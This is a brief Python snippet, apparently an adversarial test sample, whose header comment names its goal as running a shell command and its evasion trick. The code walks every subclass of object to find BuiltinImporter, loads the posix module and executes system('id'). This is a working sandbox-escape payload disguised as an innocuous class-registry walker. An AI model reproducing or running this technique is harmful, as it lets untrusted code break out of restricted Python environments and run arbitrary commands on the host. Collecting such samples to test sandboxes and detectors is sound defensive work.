# HARM: run shell command via BuiltinImporter->posix.system | TRICK: call registry walker with explicit object argument walk(object)
class Base: pass
class A(Base): pass
def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)
for k in walk(object):
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
